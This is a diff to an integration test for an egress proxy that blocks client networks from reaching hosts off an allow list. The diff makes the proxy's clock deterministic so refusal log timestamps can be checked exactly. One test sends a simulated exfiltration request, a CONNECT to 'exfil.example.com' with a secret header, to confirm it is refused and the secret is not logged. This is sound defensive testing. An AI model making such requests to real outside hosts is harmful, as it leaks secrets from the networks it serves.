@@ -50,6 +50,15 @@ describe('the egress proxy, against a real local instance', () => {
   const metrics = new Registry();
   const statuses = new Map<string, ClientStatus>([['acme', 'active'], ['beta', 'active']]);
   const configs = new Map<string, string>([['acme', 'client: acme\nprovider: gmail\n'], ['beta', 'client: beta\nprovider: outlook\n']]);
+  // The proxy's clock moves a second at each reading, so a record's time names the reading it was made at.
+  const clockReadings: string[] = [];
+  const clock = {
+    now: () => {
+      const now = new Date(Date.UTC(2026, 0, 1) + clockReadings.length * 1_000);
+      clockReadings.push(now.toISOString());
+      return now;
+    },
+  };
 
   before(async () => {
     dir = await mkdtemp(path.join(os.tmpdir(), 'egress-proxy-'));
@@ -75,6 +84,7 @@ describe('the egress proxy, against a real local instance', () => {
       },
       logger: createSilentLogger(),
       limits: { maxTunnels: 2, connectTimeoutMs: 2000 },
+      clock,
     });
     // Two "client networks" on loopback: acme's gateway 127.0.0.1 in 127.0.0.0/30, beta's 127.0.0.9 in 127.0.0.8/30.
     assert.equal(await proxies.listen(ACME, { gateway: '127.0.0.1', subnet: '127.0.0.0/30' }), `http://127.0.0.1:${proxyPort}`);
@@ -115,6 +125,7 @@ describe('the egress proxy, against a real local instance', () => {
 
   test('a CONNECT to a host off the list is refused with 403, counted and logged with client, host and time, no payload', async () => {
     const before = await counter('fleet_egress_refused_total', 'acme');
+    const readingsBefore = clockReadings.length;
     const { head } = await exchange(proxyPort, '127.0.0.1', 'CONNECT exfil.example.com:443 HTTP/1.1\r\nHost: exfil.example.com:443\r\nX-Secret: do-not-log\r\n\r\n');
     assert.match(head, /^HTTP\/1\.1 403 Forbidden\r\n/);
     assert.match(head, /not_allowed/);
@@ -123,7 +134,7 @@ describe('the egress proxy, against a real local instance', () => {
     assert.ok(entry, 'the refusal is in the log');
     assert.deepEqual(Object.keys(entry).sort(), ['at', 'client', 'host', 'port', 'reason', 'source']);
     assert.deepEqual([entry['client'], entry['port'], entry['reason'], entry['source']], ['acme', 443, 'not_allowed', '127.0.0.2']);
-    assert.ok(Math.abs(Date.parse(String(entry['at'])) - Date.now()) < 60_000);
+    assert.ok(clockReadings.slice(readingsBefore).includes(String(entry['at'])), `at ${String(entry['at'])}: the proxy's time of this refusal`);
     assert.doesNotMatch(await readFile(refusedLog, 'utf8'), /do-not-log/);
   });
 
